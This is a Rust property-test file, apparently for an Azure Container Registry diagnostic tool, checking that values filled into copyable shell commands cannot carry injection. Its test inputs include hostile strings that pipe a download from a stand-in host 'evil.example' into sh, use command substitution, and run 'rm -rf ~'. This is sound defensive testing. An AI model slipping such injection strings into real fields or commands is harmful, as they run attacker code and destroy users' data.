//! Whatever a paste or a link holds, a command offered for copying carries only values that are
//! what they claim to be: every ASCII punctuation and control character, in every slot.

use acr_doctor_core::values::{fill, Slot};
use proptest::prelude::*;

/// Characters a valid value may hold, whatever its slot (`https://`, IPv6 brackets, ports,
/// repository separators). None of them means anything to a POSIX shell or PowerShell on its own.
fn harmless(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_' | ':' | '/' | '[' | ']')
}

/// A valid value for each slot, to put hostile characters into.
fn base(slot: Slot) -> &'static str {
    match slot {
        Slot::Name => "contoso",
        Slot::Server => "contoso.azurecr.io",
        Slot::Origin => "https://contoso.azurecr.io",
        Slot::Host => "contoso.azurecr.io",
        Slot::Repository => "team/app",
        Slot::Ip => "10.0.0.4",
    }
}

/// Fill a one-slot template and return what stands where the marker was.
fn filled(slot: Slot, value: &str) -> (String, bool) {
    let template = format!("run [{}] now", slot.marker());
    let f = fill(&template, &[(slot, Some(value))]);
    let inner = f
        .text
        .strip_prefix("run [")
        .and_then(|t| t.strip_suffix("] now"))
        .expect("the template around the value is untouched")
        .to_owned();
    (inner, f.refused.contains(&slot))
}

fn check(slot: Slot, value: &str) {
    let (inner, refused) = filled(slot, value);
    let placeholder = slot.placeholder();
    // The Server slot falls back to `<registry-name>.azurecr.io` for a redacted value.
    let fallback = format!("{}.azurecr.io", Slot::Name.placeholder());
    if inner == placeholder || (slot == Slot::Server && inner == fallback) {
        return;
    }
    assert!(!refused, "{slot:?}: a refused value was used: {value:?}");
    assert_eq!(
        inner,
        value.trim(),
        "{slot:?}: the value is used as given or not at all"
    );
    assert!(
        inner.chars().all(harmless),
        "{slot:?}: {value:?} reached the command"
    );
}

#[test]
fn every_ascii_punctuation_and_control_character_in_every_slot() {
    let hostile: Vec<char> = (0u8..=127)
        .map(char::from)
        .filter(|c| c.is_ascii_punctuation() || c.is_ascii_control() || *c == ' ')
        .collect();
    for slot in Slot::ALL {
        let base = base(slot);
        for &c in &hostile {
            for at in [0, 1, base.len() / 2, base.len()] {
                let mut v = base.to_owned();
                v.insert(at, c);
                check(slot, &v);
                // The shapes attacks take: a command after a separator, a substitution.
                check(slot, &format!("{base}{c}curl${{IFS}}evil.example/p|sh{c}"));
                check(slot, &format!("{c}$(id){c}{base}"));
            }
        }
        // And the plain value still goes through.
        let (inner, refused) = filled(slot, base);
        assert_eq!((inner.as_str(), refused), (base, false), "{slot:?}");
    }
}

#[test]
fn the_reported_injections_become_placeholders() {
    for server in [
        "x.io;curl${IFS}evil.example/p|sh;#.azurecr.io",
        "r.azurecr.io$(curl evil.example)",
        "r.azurecr.io`id`",
        "r.azurecr.io && rm -rf ~",
        "r.azurecr.io\nid",
    ] {
        let f = fill(
            "curl -si https://{server}/v2/",
            &[(Slot::Name, Some("r")), (Slot::Server, Some(server))],
        );
        assert_eq!(f.text, "curl -si https://<login-server>/v2/", "{server:?}");
        assert_eq!(f.refused, vec![Slot::Server]);
    }
}

proptest! {
    #[test]
    fn any_text_in_any_slot(value in "\\PC{0,40}|[ -~]{0,40}", i in 0usize..6) {
        check(Slot::ALL[i], &value);
    }
}
